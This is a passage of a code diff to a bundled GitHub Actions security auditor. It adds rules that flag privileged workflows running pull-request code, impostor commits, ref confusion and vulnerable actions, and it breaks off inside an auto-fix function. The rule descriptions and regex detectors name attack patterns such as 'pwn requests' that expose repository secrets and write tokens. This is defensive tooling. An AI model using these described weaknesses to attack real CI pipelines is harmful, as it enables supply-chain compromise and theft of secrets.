+const UNTRUSTED_REF = /github\.event\.pull_request\.head\.(sha|ref|repo)|github\.head_ref|github\.event\.workflow_run\b|refs\/pull\/|github\.event\.(number|pull_request\.number|issue\.number)\b|github\.event\.issue\.pull_request|github\.event\.comment\b/;
+/** True when an input's expressions read the pull request's head (or the run that a fork triggered). */
+function pointsAtHead(value) {
+    if (!value)
+        return false;
+    if (UNTRUSTED_REF.test(value))
+        return true;
+    // `steps.pr.outputs.head_sha` and the like: a head ref resolved earlier in the job.
+    return /\$\{\{[^}]*\b(steps|needs)\.[\w-]+\.outputs\.[\w-]*(head|sha|ref|pr)[\w-]*/i.test(value);
+}
 /** True when a step brings the PR's code or artifacts into the privileged job. */
 function fetchesUntrusted(step) {
-    const name = step.uses ? actionName(step.uses) : '';
-    if (name === 'actions/checkout') {
-        return ['ref', 'repository'].some((k) => UNTRUSTED_REF.test(yaml_tree_text(yaml_tree_child(step.with, k)) ?? ''));
-    }
-    if (name === 'actions/download-artifact' || name === 'dawidd6/action-download-artifact') {
-        return UNTRUSTED_REF.test(yaml_tree_text(yaml_tree_child(step.with, 'run-id')) ?? yaml_tree_text(yaml_tree_child(step.with, 'run_id')) ?? '');
-    }
-    return (step.run !== undefined && /\bgh pr checkout\b|git (fetch|checkout|pull)\b[^\n]*(pull\/|head_ref|head\.sha|head\.ref)/.test(step.run));
+    const name = step.uses ? workflow_model_actionName(step.uses) : '';
+    if (name === 'actions/checkout')
+        return pointsAtHead(withValue(step, 'ref')) || pointsAtHead(withValue(step, 'repository'));
+    if (name === 'actions/download-artifact' || name === 'dawidd6/action-download-artifact')
+        return pointsAtHead(withValue(step, 'run-id') ?? withValue(step, 'run_id')) || name === 'dawidd6/action-download-artifact';
+    return (step.run !== undefined &&
+        /\bgh pr checkout\b|git (fetch|checkout|pull)\b[^\n]*(pull\/|head_ref|head\.sha|head\.ref|\$\{\{\s*github\.event)/.test(step.run));
 }
 /** Steps after the fetch that execute what was fetched: scripts, local actions, build tools. */
 function executes(step) {
     return step.run !== undefined || (step.uses?.startsWith('./') ?? false);
 }
-/** `pull_request_target` / `workflow_run` jobs that check out and run the pull request's code. */
+const PRIVILEGED = ['pull_request_target', 'workflow_run', 'issue_comment'];
+/** Privileged jobs that check out and run the pull request's code. */
 const untrustedCheckout = {
     id: 'untrusted-checkout',
     title: 'Privileged trigger checks out and runs untrusted code',
     severity: 'critical',
-    description: "pull_request_target and workflow_run jobs run with the base repository's secrets and a write token. Checking out the PR head (or downloading its artifacts) and then running a script, a build or a local action executes the attacker's code with those privileges (the 'pwn request' behind many supply-chain incidents).",
+    confidence: 'high',
+    category: 'security',
+    description: "pull_request_target, workflow_run and issue_comment jobs run with the base repository's secrets and a write token. Checking out the PR head (or downloading its artifacts) and then running a script, a build or a local action executes the attacker's code with those privileges (the 'pwn request' behind many supply-chain incidents).",
     fix: 'Run untrusted code under `pull_request` (no secrets, read-only token). If the privileged job needs PR data, pass it as an artifact and treat it as data, never execute it.',
     appliesTo: ['workflow'],
     check(model) {
-        const privileged = ['pull_request_target', 'workflow_run'].filter((t) => model.triggers.has(t));
+        const privileged = PRIVILEGED.filter((t) => model.triggers.has(t));
         if (privileged.length === 0)
             return [];
         const out = [];
@@ -37033,6 +39392,7 @@ const untrustedCheckout = {
                 message: `job '${job.id}' (on ${privileged.join(', ')}) fetches the pull request's code${runsIt ? ' and then runs it' : ''} with the base repository's secrets`,
                 line: step.line,
                 severity: runsIt ? 'critical' : 'high',
+                confidence: runsIt ? 'high' : 'medium',
             });
         }
         return out;
@@ -37041,6 +39401,7 @@ const untrustedCheckout = {
 
 ;// CONCATENATED MODULE: ./packages/workflows/src/rules/rule.ts
 const SEVERITIES = ['critical', 'high', 'medium', 'low'];
+const CONFIDENCES = (/* unused pure expression or super */ null && (['high', 'medium', 'low']));
 
 ;// CONCATENATED MODULE: ./packages/workflows/src/rules/index.ts
 
@@ -37051,25 +39412,120 @@ const SEVERITIES = ['critical', 'high', 'medium', 'low'];
 
 
 
-/** Every hardening rule, in the order reports list them. */
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+/** Every offline rule, in the order reports list them. */
 const RULES = [
     unpinnedUses,
     unpinnedImage,
     permissionsMissing,
     permissionsBroad,
     templateInjection,
+    githubEnv,
     untrustedCheckout,
-    secretsInherit,
+    dangerousTriggers,
+    cachePoisoning,
     persistCredentials,
-    missingTimeout,
+    secretsInherit,
+    overprovisionedSecrets,
+    unredactedSecrets,
+    secretsOutsideEnv,
+    insecureCommands,
+    botConditions,
+    unsoundCondition,
+    unsoundContains,
+    unsoundTernary,
+    obfuscation,
+    hardcodedContainerCredentials,
+    typosquatUses,
+    knownVulnerableActions,
+    archivedUses,
+    useTrustedPublishing,
+    githubApp,
+    unpinnedTools,
+    adhocPackages,
+    superfluousActions,
+    forbiddenUses,
+    selfRepository,
+    misfeature,
+    anonymousDefinition,
+    concurrencyLimits,
+    undocumentedPermissions,
     selfHostedPullRequest,
     concurrencyDeadlock,
+    missingTimeout,
+    constantCondition,
+    unknownReference,
+    matrixKeysRule,
+    deprecatedCommands,
+    globFilters,
+    actionInputs,
+];
+
+;// CONCATENATED MODULE: ./packages/workflows/src/online/online-rules.ts
+const online = (rule) => ({
+    ...rule,
+    category: 'security',
+    appliesTo: ['workflow', 'action'],
+    // Online rules run in online-audit.ts against the GitHub API, not on the file alone.
+    check: () => [],
+});
+/** Rules that need the GitHub API (run with `--online` and a token); listed so they can be suppressed and described. */
+const ONLINE_RULES = [
+    online({
+        id: 'impostor-commit',
+        title: 'Pinned commit that is not in the action repository',
+        severity: 'critical',
+        confidence: 'high',
+        description: "GitHub serves a fork's commits under the parent's name: `uses: owner/action@<sha>` runs a commit an attacker pushed to any fork if no branch or tag of owner/action contains it (impostor commits, 2023).",
+        fix: "Pin to a commit of one of the repository's own tags or branches.",
+    }),
+    online({
+        id: 'ref-confusion',
+        title: 'Ref that names both a branch and a tag',
+        severity: 'medium',
+        confidence: 'high',
+        description: 'When `v1` is both a branch and a tag, whoever can push a branch decides which one GitHub resolves.',
+        fix: 'Pin to a commit SHA.',
+    }),
+    online({
+        id: 'ref-version-mismatch',
+        title: 'Version comment that does not match the pinned commit',
+        severity: 'low',
+        confidence: 'high',
+        description: 'Dependabot and reviewers read the `# vX.Y.Z` comment; when the tag points elsewhere, the comment misstates what runs and updates stop.',
+        fix: 'Correct the comment (or re-pin with `slipway audit --fix`).',
+    }),
+    online({
+        id: 'stale-action-refs',
+        title: 'Pinned commit that no tag points at',
+        severity: 'low',
+        confidence: 'low',
+        description: 'A commit between releases may carry fixed-but-unreleased bugs and has no changelog.',
+        fix: 'Pin to the commit of a release tag.',
+    }),
 ];
 
 ;// CONCATENATED MODULE: ./packages/workflows/src/suppressions.ts
 
+
 const MARKER = /#\s*slipway-audit:\s*(.*)$/;
-const KNOWN = new Set(RULES.map((r) => r.id));
+const KNOWN = new Set([...RULES, ...ONLINE_RULES].map((r) => r.id));
 /** Reads every suppression comment of a file; ones without a reason or with an unknown rule are problems. */
 function readSuppressions(lines) {
     const suppressions = [];
@@ -37124,16 +39580,22 @@ function coveredLines(s, lines) {
 /** Rule ids of findings that are not hardening rules and can never be suppressed. */
 const INVALID_FILE = 'invalid-file';
 const INVALID_SUPPRESSION = 'invalid-suppression';
+const CONFIDENCE_RANK = { high: 0, medium: 1, low: 2 };
 /** An action's metadata file, by name; everything else audited is a workflow. */
 function fileKind(path) {
     return /^action\.ya?ml$/.test((0,external_node_path_.basename)(path)) ? 'action' : 'workflow';
 }
-/** Audits one file's text: GitHub's parser, then every hardening rule, then the file's suppressions. */
-async function auditText(file, content, options, kind = fileKind(file)) {
+/**
+ * Audits one file's text: GitHub's parser, then every hardening rule, then the file's
+ * suppressions; findings below `minConfidence` are kept apart.
+ */
+async function auditText(file, content, options, kind = fileKind(file), extra = []) {
     const raw = [];
     const invalid = (message, line, column = 1) => ({
         rule: INVALID_FILE,
         severity: 'high',
+        confidence: 'high',
+        category: 'validation',
         title: kind === 'workflow' ? 'GitHub cannot parse this workflow' : 'GitHub cannot parse this action',
         message,
         fix: 'Correct the file so that GitHub accepts it; until then it does not run at all (or runs in a way nobody reviewed).',
@@ -37141,18 +39603,21 @@ async function auditText(file, content, options, kind = fileKind(file)) {
         line,
         column,
     });
-    let doc;
-    try {
-        doc = yaml_tree_parseYamlTree(content, file);
+    const parsed = await parseWithGitHub(kind, file, content);
+    let doc = parsed.tree;
+    if (!doc) {
+        try {
+            doc = yaml_tree_parseYamlTree(content, file);
+        }
+        catch (error) {
+            if (!(error instanceof src/* UserError */.yo))
+                throw error;
+            const at = /:(\d+):(\d+): /.exec(error.message);
+            const finding = invalid(error.message.replace(/^.*?:\d+:\d+: /, ''), Number(at?.[1] ?? 1), Number(at?.[2] ?? 1));
+            return { file, kind, passed: false, findings: [finding], belowConfidence: [], suppressed: [], unusedSuppressions: [] };
+        }
     }
-    catch (error) {
-        if (!(error instanceof src/* UserError */.yo))
-            throw error;
-        const at = /:(\d+):(\d+): /.exec(error.message);
-        const finding = invalid(error.message.replace(/^.*?:\d+:\d+: /, ''), Number(at?.[1] ?? 1), Number(at?.[2] ?? 1));
-        return { file, kind, passed: false, findings: [finding], suppressed: [], unusedSuppressions: [] };
-    }
-    for (const e of await githubParserErrors(kind, file, content))
+    for (const e of parsed.errors)
         raw.push(invalid(e.message, e.line, e.column));
     const model = workflowModel(kind, doc);
     for (const rule of RULES) {
@@ -37162,6 +39627,8 @@ async function auditText(file, content, options, kind = fileKind(file)) {
             raw.push({
                 rule: rule.id,
                 severity: f.severity ?? rule.severity,
+                confidence: f.confidence ?? rule.confidence,
+                category: rule.category,
                 title: rule.title,
                 message: f.message,
                 fix: f.fix ?? rule.fix,
@@ -37171,11 +39638,14 @@ async function auditText(file, content, options, kind = fileKind(file)) {
             });
         }
     }
+    raw.push(...extra.filter((f) => f.file === file));
     const { suppressions, problems } = readSuppressions(doc.lines);
     for (const p of problems) {
         raw.push({
             rule: INVALID_SUPPRESSION,
             severity: 'medium',
+            confidence: 'high',
+            category: 'validation',
             title: 'Suppression comment that cannot be honoured',
             message: p.message,
             fix: 'Name an existing rule and say why the finding is safe to ignore.',
@@ -37185,8 +39655,10 @@ async function auditText(file, content, options, kind = fileKind(file)) {
         });
     }
     const used = new Set();
-    const findings = [];
+    const shown = [];
+    const below = [];
     const suppressed = [];
+    const min = CONFIDENCE_RANK[options.minConfidence ?? 'high'];
     for (const f of raw) {
         const match = f.rule === INVALID_FILE || f.rule === INVALID_SUPPRESSION
             ? undefined
@@ -37195,15 +39667,18 @@ async function auditText(file, content, options, kind = fileKind(file)) {
             used.add(match);
             suppressed.push({ ...f, suppression: { reason: match.reason, line: match.line } });
         }
+        else if (CONFIDENCE_RANK[f.confidence] > min)
+            below.push(f);
         else
-            findings.push(f);
+            shown.push(f);
     }
-    const order = (a, b) => a.line - b.line || a.rule.localeCompare(b.rule);
+    const order = (a, b) => a.line - b.line || a.rule.localeCompare(b.rule) || a.message.localeCompare(b.message);
     return {
         file,
         kind,
-        passed: findings.length === 0,
-        findings: findings.sort(order),
+        passed: shown.length === 0,
+        findings: shown.sort(order),
+        belowConfidence: below.sort(order),
         suppressed: suppressed.sort(order),
         unusedSuppressions: suppressions.filter((s) => !used.has(s)),
     };
@@ -37266,18 +39741,23 @@ async function collectAuditInputs(paths, base) {
 
 
 /** Audits every input and sums the result. */
-async function auditAll(inputs, options) {
+async function auditAll(inputs, options, extra = []) {
     const files = [];
     // A local call (`./.github/workflows/x.yml`) is resolved among the audited files, by path suffix.
     const readLocalWorkflow = (path) => inputs.find((i) => i.file === path || i.file.endsWith(`/${path}`))?.content;
+    const readLocalAction = (path) => inputs.find((i) => i.kind === 'action' &&
+        (i.file === `${path}/action.yml` || i.file.endsWith(`/${path}/action.yml`) || i.file === `${path}/action.yaml`))?.content;
     for (const input of inputs)
-        files.push(await auditText(input.file, input.content, { readLocalWorkflow, ...options }, input.kind));
+        files.push(await auditText(input.file, input.content, { readLocalWorkflow, readLocalAction, ...options }, input.kind, extra));
     return summarise(files);
 }
 /** Totals and coverage over file audits. */
 function summarise(files) {
     const findings = files.flatMap((f) => f.findings);
     const bySeverity = Object.fromEntries(SEVERITIES.map((s) => [s, findings.filter((f) => f.severity === s).length]));
+    const byCategory = { security: 0, hygiene: 0, validation: 0 };
+    for (const f of findings)
+        byCategory[f.category] += 1;
     const byRule = {};
     for (const f of findings)
         byRule[f.rule] = (byRule[f.rule] ?? 0) + 1;
@@ -37286,7 +39766,14 @@ function summarise(files) {
         passed: findings.length === 0,
         files,
         coverage: { files: files.length, passing, percent: files.length === 0 ? 100 : Math.round((passing / files.length) * 1000) / 10 },
-        counts: { findings: findings.length, suppressed: files.reduce((n, f) => n + f.suppressed.length, 0), bySeverity, byRule },
+        counts: {
+            findings: findings.length,
+            suppressed: files.reduce((n, f) => n + f.suppressed.length, 0),
+            belowConfidence: files.reduce((n, f) => n + f.belowConfidence.length, 0),
+            bySeverity,
+            byCategory,
+            byRule,
+        },
     };
 }
 
@@ -37296,7 +39783,7 @@ function formatAuditText(report) {
     const out = [];
     for (const file of report.files) {
         for (const f of file.findings) {
-            out.push(`${f.file}:${f.line}:${f.column}: ${f.severity} [${f.rule}] ${f.message}`, `  fix: ${f.fix}`);
+            out.push(`${f.file}:${f.line}:${f.column}: ${f.severity} [${f.rule}] ${f.message}${f.confidence === 'high' ? '' : ` (${f.confidence} confidence)`}`, `  fix: ${f.fix}`);
         }
         for (const s of file.unusedSuppressions)
             out.push(`${file.file}:${s.line}:1: note: suppression of ${s.rule} matches no finding; remove it`);
@@ -37309,11 +39796,16 @@ function formatAuditText(report) {
     if (out.length > 0)
         out.push('');
     out.push(`${coverage.passing} of ${coverage.files} file(s) pass (${coverage.percent}% coverage); ` +
-        `${counts.findings} finding(s)${severities ? ` (${severities})` : ''}, ${counts.suppressed} suppressed with a reason.`);
+        `${counts.findings} finding(s)${severities ? ` (${severities})` : ''}, ${counts.suppressed} suppressed with a reason.` +
+        (counts.findings > 0
+            ? ` By category: ${counts.byCategory.security} security, ${counts.byCategory.hygiene} hygiene, ${counts.byCategory.validation} validation.`
+            : '') +
+        (counts.belowConfidence > 0 ? ` ${counts.belowConfidence} lower-confidence finding(s) not shown (--all shows them).` : ''));
     return out.join('\n') + '\n';
 }
 
 ;// CONCATENATED MODULE: ./packages/workflows/src/format-sarif.ts
+
 
 
 const LEVEL = { critical: 'error', high: 'error', medium: 'warning', low: 'note' };
@@ -37324,6 +39816,8 @@ const EXTRA = [
         id: INVALID_FILE,
         title: 'GitHub cannot parse this file',
         severity: 'high',
+        confidence: 'high',
+        category: 'validation',
         description: "Errors from GitHub's workflow parser.",
         fix: 'Correct the file.',
     },
@@ -37331,15 +39825,18 @@ const EXTRA = [
         id: INVALID_SUPPRESSION,
         title: 'Suppression comment that cannot be honoured',
         severity: 'medium',
+        confidence: 'high',
+        category: 'validation',
         description: 'A suppression must name a rule and give a reason.',
         fix: "Write '# slipway-audit: ignore <rule-id> -- <reason>'.",
     },
 ];
 /** SARIF 2.1.0 for GitHub code scanning; suppressed findings are kept as SARIF suppressions. */
 function formatAuditSarif(report, version) {
-    const rules = [...RULES, ...EXTRA];
+    const rules = [...RULES, ...ONLINE_RULES, ...EXTRA];
     const index = new Map(rules.map((r, i) => [r.id, i]));
     const results = report.files.flatMap((file) => [...file.findings, ...file.suppressed].map((f) => ({
+        properties: { confidence: f.confidence, category: f.category },
         ruleId: f.rule,
         ruleIndex: index.get(f.rule) ?? 0,
         level: LEVEL[f.severity],
@@ -37365,7 +39862,7 @@ function formatAuditSarif(report, version) {
                             fullDescription: { text: r.description },
                             help: { text: r.fix, markdown: r.fix },
                             defaultConfiguration: { level: LEVEL[r.severity] },
-                            properties: { tags: ['security', 'actions'], 'security-severity': SCORE[r.severity] },
+                            properties: { tags: [r.category, 'actions'], precision: r.confidence, 'security-severity': SCORE[r.severity] },
                         })),
                     },
                 },
@@ -37394,6 +39891,507 @@ function formatAuditSummary(report) {
     if (suppressed.length > 0)
         md.details('Suppressed findings', new src/* Markdown */.oz().table(['Rule', 'Where', 'Reason'], suppressed).toString());
     return md.toString();
+}
+
+;// CONCATENATED MODULE: ./packages/workflows/src/online/github-api.ts
+
+const refDecoder = src/* decode.object */.D4.object({ object: src/* decode.object */.D4.object({ sha: src/* decode.string */.D4.string, type: src/* decode.string */.D4.string }) });
+const namedCommits = src/* decode.array */.D4.array(src/* decode.object */.D4.object({ name: src/* decode.string */.D4.string, commit: src/* decode.object */.D4.object({ sha: src/* decode.string */.D4.string }) }));
+const advisoryList = src/* decode.array */.D4.array(src/* decode.object */.D4.object({
+    ghsa_id: src/* decode.string */.D4.string,
+    cve_id: src/* decode.withDefault */.D4.withDefault(src/* decode.nullable */.D4.nullable(src/* decode.string */.D4.string), null),
+    summary: src/* decode.string */.D4.string,
+    severity: src/* decode.string */.D4.string,
+    vulnerabilities: src/* decode.array */.D4.array(src/* decode.object */.D4.object({
+        package: src/* decode.object */.D4.object({ ecosystem: src/* decode.string */.D4.string, name: src/* decode.string */.D4.string }),
+        vulnerable_version_range: src/* decode.withDefault */.D4.withDefault(src/* decode.nullable */.D4.nullable(src/* decode.string */.D4.string), null),
+        first_patched_version: src/* decode.withDefault */.D4.withDefault(src/* decode.nullable */.D4.nullable(src/* decode.string */.D4.string), null),
+    })),
+}));
+/** GitHub's guidance for a secondary limit without retry-after: wait at least a minute. */
+function retryAfter(r) {
+    const seconds = Number(r.headers.get('retry-after'));
+    return Number.isFinite(seconds) && seconds > 0
+        ? { waitMs: seconds * 1000 }
+        : r.headers.get('retry-after') === null
+            ? { waitMs: 60_000 }
+            : {};
+}
+/** The GitHub REST API with a token, every call under core's deadlines and retry policy. */
+function githubApi(options) {
+    const base = options.baseUrl.replace(/\/$/, '');
+    const headers = {
+        accept: 'application/vnd.github+json',
+        authorization: `Bearer ${options.token}`,
+        'x-github-api-version': '2022-11-28',
+        'user-agent': 'slipway-pipeline-audit',
+    };
+    let lastLink = null;
+    const get = async (path) => {
+        const url = path.startsWith('http') ? path : `${base}${path}`;
+        const response = await (0,src/* fetchWithPolicy */.Vu)(url, { headers }, {
+            what: 'the GitHub API',
+            deadlines: { firstByteMs: 20_000, idleMs: 20_000, totalMs: 120_000 },
+            // A secondary rate limit answers 403 (sometimes without retry-after); a primary one says remaining 0.
+            judgeResponse: (r) => r.status === 403 && (r.headers.get('retry-after') !== null || r.headers.get('x-ratelimit-remaining') === '0')
+                ? { retry: true, reason: `${r.status} rate limit from the GitHub API`, ...retryAfter(r) }
+                : undefined,
+            ...(options.fetch ? { fetch: options.fetch } : {}),
+        });
+        if (response.status === 404 || response.status === 422) {
+            await response.body?.cancel();
+            return undefined;
+        }
+        lastLink = response.headers.get('link');
+        const text = (await (0,src/* readBody */.x8)(response, 'the GitHub API')).toString('utf8');
+        if (response.status === 401 || response.status === 403)
+            throw new src/* UserError */.yo(`the GitHub API refused ${path} (${response.status}): ${text.slice(0, 200)}`, {
+                code: src/* errorCodes */.fv.invalidInput,
+                hint: 'give a token that can read public repositories (GITHUB_TOKEN or GH_TOKEN)',
+            });
+        if (!response.ok)
+            throw new src/* UserError */.yo(`the GitHub API answered ${response.status} for ${path}`, {
+                code: src/* errorCodes */.fv.networkStatus,
+                hint: 'try again later',
+            });
+        return (0,src/* parseJson */.qF)(text, `the GitHub API's answer to ${path}`);
+    };
+    const paged = async (path) => {
+        const out = [];
+        for (let page = 1; page <= 10; page += 1) {
+            const json = await get(`${path}?per_page=100&page=${page}`);
+            if (json === undefined)
+                break;
+            const items = (0,src/* decodeDocument */.w8)(namedCommits, json, path);
+            out.push(...items.map((i) => ({ name: i.name, sha: i.commit.sha })));
+            if (items.length < 100)
+                break;
+        }
+        return out;
+    };
+    const repoPath = (owner, repo) => `/repos/${encodeURIComponent(owner)}/${encodeURIComponent(repo)}`;
+    return {
+        async repository(owner, repo) {
+            const json = await get(repoPath(owner, repo));
+            return json === undefined
+                ? undefined
+                : (0,src/* decodeDocument */.w8)(src/* decode.object */.D4.object({ archived: src/* decode.withDefault */.D4.withDefault(src/* decode.boolean */.D4.boolean, false) }), json, 'repository');
+        },
+        async ref(owner, repo, ref) {
+            const json = await get(`${repoPath(owner, repo)}/git/ref/${ref.split('/').map(encodeURIComponent).join('/')}`);
+            if (json === undefined || Array.isArray(json))
+                return undefined;
+            let target = (0,src/* decodeDocument */.w8)(refDecoder, json, `ref ${ref}`).object;
+            for (let hops = 0; target.type === 'tag' && hops < 5; hops += 1) {
+                const tag = await get(`${repoPath(owner, repo)}/git/tags/${target.sha}`);
+                if (tag === undefined)
+                    return undefined;
+                target = (0,src/* decodeDocument */.w8)(refDecoder, tag, `tag ${ref}`).object;
+            }
+            return target.sha;
+        },
+        tags: (owner, repo) => paged(`${repoPath(owner, repo)}/tags`),
+        branches: (owner, repo) => paged(`${repoPath(owner, repo)}/branches`),
+        async compare(owner, repo, baseRef, head) {
+            const json = await get(`${repoPath(owner, repo)}/compare/${encodeURIComponent(baseRef)}...${head}`);
+            return json === undefined ? undefined : (0,src/* decodeDocument */.w8)(src/* decode.object */.D4.object({ status: src/* decode.string */.D4.string }), json, 'compare').status;
+        },
+        async advisories(owner, repo) {
+            const json = await get(`/advisories?ecosystem=actions&affects=${encodeURIComponent(`${owner}/${repo}`)}&per_page=100`);
+            if (json === undefined)
+                return [];
+            return toAdvisories(json).filter((a) => a.package === `${owner}/${repo}`.toLowerCase());
+        },
+        async allAdvisories() {
+            const out = [];
+            let next = '/advisories?ecosystem=actions&type=reviewed&per_page=100';
+            for (let page = 0; next && page < 50; page += 1) {
+                const json = await get(next);
+                if (json === undefined)
+                    break;
+                out.push(...toAdvisories(json));
+                next = /<([^>]+)>;\s*rel="next"/.exec(lastLink ?? '')?.[1];
+            }
+            return out;
+        },
+    };
+}
+/** GitHub's global advisories as one entry per affected action. */
+function toAdvisories(json) {
+    return (0,src/* decodeDocument */.w8)(advisoryList, json, 'advisories').flatMap((a) => a.vulnerabilities
+        .filter((v) => v.package.ecosystem === 'actions')
+        .map((v) => ({
+        id: a.ghsa_id,
+        aliases: a.cve_id ? [a.cve_id] : [],
+        summary: a.summary,
+        severity: a.severity,
+        package: v.package.name.toLowerCase(),
+        vulnerable: v.vulnerable_version_range ?? '>= 0',
+        patched: v.first_patched_version,
+    })));
+}
+/** A complete advisory snapshot of the actions ecosystem, taken now through the API. */
+async function refreshAdvisories(api, now, baseUrl) {
+    return {
+        source: `GitHub Advisory Database through ${baseUrl}/advisories?ecosystem=actions&type=reviewed`,
+        taken: now.toISOString().slice(0, 10),
+        complete: true,
+        advisories: await api.allAdvisories(),
+    };
+}
+
+;// CONCATENATED MODULE: ./packages/workflows/src/online/online-audit.ts
+
+
+
+
+
+
+
+
+
+const online_audit_SHA = /^[0-9a-f]{40}$/;
+const ALL = [...RULES, ...ONLINE_RULES];
+/** Memoises API answers per repository: a file set names the same actions many times. */
+function memo(fn) {
+    const cache = new Map();
+    return (key) => {
+        let hit = cache.get(key);
+        if (!hit) {
+            hit = fn(key);
+            cache.set(key, hit);
+        }
+        return hit;
+    };
+}
+/**
+ * The audits that need GitHub: impostor commits, ref confusion, version-comment mismatches,
+ * pins between releases, archived repositories, look-alike repositories that exist, and the
+ * advisories the API knows (SHA pins resolved to their release tags).
+ */
+async function onlineFindings(inputs, api) {
+    const repository = memo((k) => api.repository(...k.split('/')));
+    const tags = memo((k) => api.tags(...k.split('/')));
+    const branches = memo((k) => api.branches(...k.split('/')));
+    const advisories = memo((k) => api.advisories(...k.split('/')));
+    const out = [];
+    const push = (rule, file, line, message, extra = {}) => {
+        const r = ALL.find((x) => x.id === rule);
+        if (!r)
+            return;
+        out.push({
+            rule,
+            severity: r.severity,
+            confidence: r.confidence,
+            category: r.category,
+            title: r.title,
+            message,
+            fix: r.fix,
+            file,
+            line,
+            column: 1,
+            ...extra,
+        });
+    };
+    for (const input of inputs) {
+        let model;
+        try {
+            model = workflowModel(input.kind, yaml_tree_parseYamlTree(input.content, input.file));
+        }
+        catch {
+            continue; // The offline audit reports the file as invalid.
+        }
+        for (const { uses, line } of usesOf(model)) {
+            const r = workflow_model_remoteUses(uses);
+            if (!r || !r.owner || !r.repo || uses.includes('${{'))
+                continue;
+            const slug = `${r.owner}/${r.repo}`;
+            const repo = await repository(slug);
+            if (!repo) {
+                if (!typosquatOf(slug))
+                    push('impostor-commit', input.file, line, `${slug} does not exist on GitHub: nothing it could run is reviewed`, {
+                        severity: 'high',
+                    });
+                continue;
+            }
+            if (typosquatOf(slug))
+                push('typosquat-uses', input.file, line, `'${slug}' is one typo away from ${typosquatOf(slug)} and exists on GitHub`, {
+                    confidence: 'high',
+                });
+            if (repo.archived && ARCHIVED[slug] === undefined)
+                push('archived-uses', input.file, line, `${slug} is archived`);
+            const lineText = input.content.split(/\r?\n/)[line - 1] ?? '';
+            let version = claimedVersion(r.ref, lineText)?.version;
+            if (online_audit_SHA.test(r.ref)) {
+                const repoTags = await tags(slug);
+                const tagged = repoTags.filter((t) => t.sha === r.ref);
+                const heads = await branches(slug);
+                let reachable = tagged.length > 0 || heads.some((b) => b.sha === r.ref);
+                for (const b of heads.slice(0, 50)) {
+                    if (reachable)
+                        break;
+                    const status = await api.compare(r.owner, r.repo, b.name, r.ref);
+                    reachable = status === 'behind' || status === 'identical';
+                }
+                if (!reachable)
+                    push('impostor-commit', input.file, line, `${r.ref} is not on any branch or tag of ${slug}: it comes from a fork (or does not exist)`);
+                else if (tagged.length === 0)
+                    push('stale-action-refs', input.file, line, `${slug}@${r.ref} is not the commit of any tag`);
+                const comment = claimedVersion(r.ref, lineText);
+                if (comment && reachable) {
+                    const at = repoTags.find((t) => t.name === comment.version)?.sha ?? (await api.ref(r.owner, r.repo, `tags/${comment.version}`));
+                    if (at && at !== r.ref)
+                        push('ref-version-mismatch', input.file, line, `the comment says ${comment.version}, which is ${at.slice(0, 12)}, not the pinned ${r.ref.slice(0, 12)}`);
+                }
+                // The most specific release tag of the pinned commit is its version.
+                version = tagged.map((t) => t.name).sort((a, b) => b.split('.').length - a.split('.').length)[0] ?? version;
+            }
+            else if (r.ref) {
+                const [branch, tag] = await Promise.all([api.ref(r.owner, r.repo, `heads/${r.ref}`), api.ref(r.owner, r.repo, `tags/${r.ref}`)]);
+                if (branch && tag && branch !== tag)
+                    push('ref-confusion', input.file, line, `'${r.ref}' of ${slug} is both a branch and a tag`);
+            }
+            const offline = new Set(shippedAdvisories().advisories.map((a) => `${a.id} ${a.package}`));
+            const online = online_audit_SHA.test(r.ref)
+                ? await advisories(slug)
+                : (await advisories(slug)).filter((a) => !offline.has(`${a.id} ${a.package}`));
+            if (version)
+                for (const a of advisoriesFor({ source: '', taken: '', complete: true, advisories: online }, slug, version))
+                    push('known-vulnerable-actions', input.file, line, `${slug} ${version} is affected by ${a.id}${a.aliases.length ? ` (${a.aliases.join(', ')})` : ''}: ${a.summary}`, {
+                        fix: a.patched ? `Upgrade to ${a.patched} or later.` : 'Pin to a commit released after the advisory.',
+                    });
+        }
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./packages/workflows/src/fix/fix-file.ts
+
+
+
+const fix_file_SHA = /^[0-9a-f]{40}$/;
+const fix_file_RELEASE_TAG = /^v\d+(\.\d+){0,2}$/;
+const lineStart = (text, at) => text.lastIndexOf('\n', at - 1) + 1;
+const lineEnd = (text, at) => {
+    const n = text.indexOf('\n', at);
+    return n < 0 ? text.length : n;
+};
+const column = (text, at) => at - lineStart(text, at);
+function pairOf(map, key) {
+    return map.items.find((p) => isScalar(p.key) && String(p.key.value) === key);
+}
+/** Where a block map's last entry ends: the end of the line its last value ends on. */
+function mapEnd(text, map) {
+    const last = map.items[map.items.length - 1];
+    const value = last?.value;
+    const key = last?.key;
+    const end = value?.range?.[1] ?? key?.range?.[1] ?? map.range?.[1] ?? 0;
+    // A block scalar's value ends after its last line's newline: step back onto that line.
+    return lineEnd(text, text[end - 1] === '\n' ? end - 1 : end);
+}
+const firstKeyColumn = (text, map) => {
+    const key = map.items[0]?.key;
+    return column(text, key?.range?.[0] ?? 0);
+};
+/** The permissions a job needs, from the well-known actions it uses; undefined when a step's needs are unknown. */
+function inferPermissions(job) {
+    if (pairOf(job, 'uses'))
+        return { unknown: 'it calls a reusable workflow, whose needs the caller must grant' };
+    const grants = {};
+    const steps = pairOf(job, 'steps')?.value;
+    for (const step of isSeq(steps) ? steps.items : []) {
+        if (!isMap(step))
+            continue;
+        const uses = pairOf(step, 'uses')?.value;
+        const text = JSON.stringify(step.toJSON());
+        if (isScalar(uses)) {
+            const name = actionName(String(uses.value).trim());
+            if (name.startsWith('./') || name.startsWith('$/'))
+                return { unknown: `the local action ${name} may use the token` };
+            const needed = PERMISSIONS_NEEDED[name] ?? PERMISSIONS_NEEDED[name.split('/').slice(0, 2).join('/')];
+            if (!needed)
+                return { unknown: `what ${name} needs is not in the table of well-known actions` };
+            for (const [scope, level] of Object.entries(needed))
+                if (grants[scope] !== 'write')
+                    grants[scope] = level;
+        }
+        // A script handed the token (gh, curl to the API) needs scopes no table can tell.
+        if (/github\.token|secrets\.GITHUB_TOKEN/.test(text) && !isScalar(uses))
+            return { unknown: 'a script step uses the token' };
+    }
+    return { grants };
+}
+/**
+ * The mechanical fixes of one workflow or composite action, as splices of its text so every
+ * comment and all formatting stay: SHA pins with a `# vX.Y.Z` comment, `persist-credentials:
+ * false` on checkouts, and `permissions: {}` with per-job grants inferred from the steps.
+ */
+async function fix_file_fixFile(content, kind, options) {
+    const doc = parseDocument(content, { keepSourceTokens: true });
+    const applied = [];
+    const skipped = [];
+    if (doc.errors.length > 0 || !isMap(doc.contents))
